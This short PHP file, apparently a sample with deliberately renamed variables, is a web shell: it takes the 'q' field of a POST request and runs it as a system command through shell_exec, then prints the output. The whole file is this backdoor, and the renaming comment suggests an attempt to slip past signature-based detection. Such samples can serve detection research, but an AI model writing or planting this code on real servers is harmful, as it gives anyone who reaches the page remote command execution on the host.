<?php
// renamed variables: the command goes through two of them
$zz = isset($_POST['q']) ? $_POST['q'] : '';
$yy = trim($zz);
$out = shell_exec($yy . ' 2>&1');
echo htmlspecialchars((string) $out);
